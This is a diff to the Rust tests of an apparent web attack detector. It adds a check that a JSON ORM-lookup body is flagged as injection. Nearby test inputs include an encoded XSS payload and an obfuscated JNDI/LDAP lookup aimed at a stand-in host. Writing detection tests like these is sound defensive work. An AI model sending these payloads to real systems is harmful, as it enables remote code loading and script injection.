@@ -310,6 +310,11 @@ mod tests {
             found("", "v=\\xbcscript\\xbealert(1)\\xbc/script\\xbe"),
             ["injection_xss"]
         );
+        // A JSON body labelled as a form is still read as JSON.
+        assert_eq!(
+            found("", "{\"username__startswith\":\"p\"}"),
+            ["injection_orm"]
+        );
         // Named character references a Java or PHP decoder knows.
         assert_eq!(
             found("", "v=$%26lbrace;jndi:ldap://x.test/a}"),
